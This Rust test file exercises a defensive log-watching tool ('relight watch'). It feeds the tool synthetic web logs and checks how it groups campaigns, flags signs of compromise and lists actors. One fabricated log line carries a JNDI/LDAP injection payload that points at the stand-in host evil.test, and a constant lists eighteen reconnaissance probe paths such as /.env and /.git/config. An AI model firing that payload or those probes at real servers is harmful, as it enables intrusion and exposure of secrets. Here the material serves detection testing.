//! `relight watch campaigns`: ids that last, signs that somebody saw, and what a person reads.

use std::fmt::Write as _;

use crate::place::Place;

/// One who tries the payload of a lookup at a site, and what it would have called.
fn attempt(place: &Place) {
    let log = "203.0.113.7 - - [09/Nov/2025:10:00:00 +0000] \"GET /?x=${jndi:ldap://evil.test/a} \
               HTTP/1.1\" 200 9 \"-\" \"-\"\n";
    place.write("attempt.log", log);
    place
        .expect(0, &["watch", "ingest", "attempt.log", "--org", "Santé Nord", "--site", "san-001"]);
}

/// One who tries these doors, one a day.
fn doors(place: &Place, file: &str, source: &str, doors: &[&str]) {
    let mut log = String::new();
    for (day, door) in (1..).zip(doors) {
        let _ = writeln!(
            log,
            "{source} - - [{day:02}/Nov/2025:10:00:00 +0000] \"GET {door} HTTP/1.1\" 404 9 \"-\" \
             \"-\""
        );
    }
    place.write(file, log);
    place.expect(0, &["watch", "ingest", file, "--org", "Santé Nord", "--site", "san-001"]);
}

const DOORS: [&str; 18] = [
    "/.env",
    "/owa/",
    "/.git/config",
    "/solr/admin/cores",
    "/manager/html",
    "/remote/login",
    "/ecp/default.aspx",
    "/phpmyadmin/index.php",
    "/actuator/health",
    "/server-status",
    "/jenkins/login",
    "/tmui/login.jsp",
    "/vsphere-client/",
    "/_cat/indices",
    "/host-manager/html",
    "/adminer.php",
    "/xmlrpc.php",
    "/backup.zip",
];

fn ids(place: &Place) -> Vec<String> {
    let document = place.expect(0, &["watch", "campaigns", "--json"]).json();
    let campaigns = document["campaigns"].as_array().unwrap();
    campaigns.iter().map(|it| it["id"].as_str().unwrap().to_owned()).collect()
}

/// Two campaigns keep their ids while others come before and between them, while they grow, and
/// when everything is read again; another place with the same log calls them the same.
#[test]
fn ids_last_while_campaigns_grow_and_others_come() {
    let place = Place::with_sites();
    doors(&place, "a.log", "203.0.113.1", &DOORS[..13]);
    let [first] = &ids(&place)[..] else { panic!("one") };
    assert!(first.len() == 8 && first.starts_with("C-"), "{first}");
    attempt(&place);
    doors(&place, "b.log", "203.0.113.2", &DOORS[4..]);
    let all = ids(&place);
    assert!(all.len() == 3 && all.contains(first), "{all:?}");
    doors(&place, "c.log", "203.0.113.1", &DOORS[13..]);
    assert_eq!(ids(&place), all);
    assert_eq!(ids(&place), all, "and again");
    let elsewhere = Place::with_sites();
    doors(&elsewhere, "b.log", "203.0.113.2", &DOORS[4..]);
    assert!(all.contains(&ids(&elsewhere)[0]));
}

/// A sign is one only after an attempt at the same site, towards what the attempt would have
/// called: then, and only then, the word compromise is used without a denial.
#[test]
fn signs_that_somebody_saw_raise_an_attempt_and_nothing_else() {
    let place = Place::with_sites();
    doors(&place, "a.log", "203.0.113.1", &DOORS[..13]);
    attempt(&place);
    let severities = |place: &Place| {
        let document = place.expect(0, &["watch", "campaigns", "--json"]).json();
        let campaigns = document["campaigns"].as_array().unwrap().clone();
        let severity = |it: &serde_json::Value| it["severity"].as_str().unwrap().to_owned();
        campaigns.iter().map(severity).collect::<Vec<_>>()
    };
    assert_eq!(severities(&place), ["S1", "S3"]);
    for elsewhere in [
        "2025-11-09T10:00:05Z,san-001,connection,other.test",
        "2025-11-09T09:59:59Z,san-001,connection,evil.test",
        "2025-11-09T10:00:05Z,san-002,connection,evil.test",
        "2025-11-05T10:00:05Z,san-001,connection,203.0.113.1",
    ] {
        place.write("data/signs.csv", elsewhere);
        assert_eq!(severities(&place), ["S1", "S3"], "{elsewhere}");
    }
    let seen = "2025-11-09T10:00:05Z,san-001,name-query,Evil.test.\nno line\n";
    place.write("data/signs.csv", seen);
    let told = place.expect(0, &["watch", "campaigns"]);
    assert!(told.stderr.contains("signs.csv:2: "), "{}", told.text());
    assert_eq!(severities(&place), ["S1", "S5"]);
    let id = ids(&place)[1].clone();
    let told = place.expect(0, &["watch", "explain", &id]).stdout;
    assert!(told.contains("Signs of compromise: san-001 (2025-11-09 10:00:05 UTC"), "{told}");
    let why = place.expect(0, &["watch", "explain", &id, "--json"]).json();
    assert_eq!(why["campaign"]["signs"][0]["host"], "evil.test");
    assert_eq!(why["campaign"]["compromise"], "signs");
}

/// A path that answered everybody made no contact; whether it is there is known all the same.
#[test]
fn a_path_that_answered_is_found_without_who_asked() {
    let place = Place::with_sites();
    let line = |source: &str, day: u32, path: &str, status: u32| {
        format!(
            "{source} - - [{day:02}/Nov/2025:10:00:00 +0000] \"GET {path} HTTP/1.1\" {status} 9 \
             \"-\" \"-\"\n"
        )
    };
    let log = [
        line("203.0.113.1", 3, "/quiet/upload.aspx", 200),
        line("203.0.113.2", 9, "/quiet/upload.aspx", 200),
        line("203.0.113.3", 4, "/nowhere", 404),
    ];
    place.write("a.log", log.concat());
    place.expect(0, &["watch", "ingest", "a.log", "--org", "Santé Nord", "--site", "san-001"]);
    let hunt = |what: &str| place.run(&["watch", "hunt", what, "--days", "4000"]).stdout;
    let told = hunt("/quiet/upload.aspx");
    let answered = "answered at san-001 to ordinary visitors, between 2025-11-03 and 2025-11-09";
    assert!(told.contains(answered) && !told.contains("203.0.113"), "{told}");
    assert!(!hunt("/nowhere").contains("answered"));
    assert!(!hunt("/quiet/other").contains("answered"));
    let asked = ["watch", "hunt", "/QUIET//upload.aspx", "--days", "4000", "--json"];
    let document = place.run(&asked).json();
    let row = serde_json::json!({
        "organisation": "Santé Nord", "site": "san-001", "first": "2025-11-03",
        "last": "2025-11-09", "unknown": false,
    });
    assert_eq!(document["answered"], serde_json::json!([row]));
}

/// Goal: the command finds whom the page finds. Method: one who tries a payload and one who is
/// slow, asked for by each filter, as text in both languages and as a document.
#[test]
fn actors_are_listed_the_worst_first_and_found_by_what_is_known_of_them() {
    let place = Place::with_sites();
    doors(&place, "a.log", "203.0.113.1", &DOORS[..13]);
    attempt(&place);
    let list = |more: &[&str]| place.expect(0, &[&["watch", "actors"], more].concat());
    let found = |more: &[&str]| -> Vec<String> {
        let document = list(&[more, &["--json"]].concat()).json();
        assert_eq!(document["schema"], "relight.actors/1");
        let actors = document["actors"].as_array().unwrap().clone();
        actors.iter().map(|it| it["sources"][0].as_str().unwrap().to_owned()).collect()
    };
    let (attempted, slow) = ("203.0.113.7".to_owned(), "203.0.113.1".to_owned());
    for (more, wanted) in [
        (vec![], vec![&attempted, &slow]),
        (vec!["203.0.113.7"], vec![&attempted]),
        (vec!["--severity", "s1"], vec![&slow]),
        (vec!["--severity", "S5"], vec![]),
        (vec!["--sector", "health"], vec![&attempted, &slow]),
        (vec!["--sector", "municipal"], vec![]),
        (vec!["--since", "2025-11-10"], vec![&slow]),
        (vec!["--since", "3660d"], vec![&attempted, &slow]),
        (vec!["nobody"], vec![]),
    ] {
        assert_eq!(found(&more), wanted.into_iter().cloned().collect::<Vec<_>>(), "{more:?}");
    }
    let told = list(&["--limit", "1"]).stdout;
    let lines: Vec<&str> = told.lines().collect();
    assert!(lines[0].contains("Addresses") && lines[1].contains("203.0.113.7"), "{told}");
    assert!(told.contains("and 1 more\n2 actors\n"), "{told}");
    assert!(told.contains("Reconnaissance is not an indication of compromise."), "{told}");
    assert!(lines.last().unwrap().starts_with("Next: relight watch explain C-"), "{told}");
    let french = list(&["--lang", "fr"]).stdout;
    assert!(french.contains("2 acteurs") && french.contains("Une reconnaissance"), "{french}");
    let refused = place.expect(2, &["watch", "actors", "--sector", "helth"]);
    assert!(refused.stderr.contains("the sectors of this register: health, municipal"));
    place.expect(2, &["watch", "actors", "--since", "yesterday"]);
    let since = |day: &str| {
        let listed = place.expect(0, &["watch", "campaigns", "--since", day, "--json"]).json();
        listed["campaigns"].as_array().unwrap().len()
    };
    assert_eq!([since("2025-11-01"), since("2025-11-10"), since("2025-11-30")], [2, 1, 0]);
}

/// A test without its places and two names silences nothing, and says so; with them it does, in its
/// days and places.
#[test]
fn a_test_silences_where_two_people_agreed() {
    let place = Place::with_sites();
    attempt(&place);
    let step = |list: &str| {
        place.write("data/known-scanners.csv", list);
        let told = place.run(&["watch", "campaigns", "--json"]);
        let all = told.json()["campaigns"].as_array().unwrap().clone();
        let of = |row: &&serde_json::Value| row["sources"] == serde_json::json!(["203.0.113.7"]);
        (all.iter().find(of).unwrap()["severity"].clone(), told.stderr)
    };
    let days = "test,Nord,203.0.113.7,2025-11-01,2025-11-30";
    let (severity, told) = step(&format!("{days}\n"));
    assert_eq!(severity, "S3");
    assert!(told.contains("known-scanners.csv:1: "), "{told}");
    for (places, silenced) in [("Santé Nord", true), ("san-001", true), ("mun-001", false)] {
        let (severity, told) = step(&format!("{days},{places},A. Roy,B. Cyr\n"));
        assert_eq!(severity, if silenced { "S0" } else { "S3" }, "{places}: {told}");
    }
}
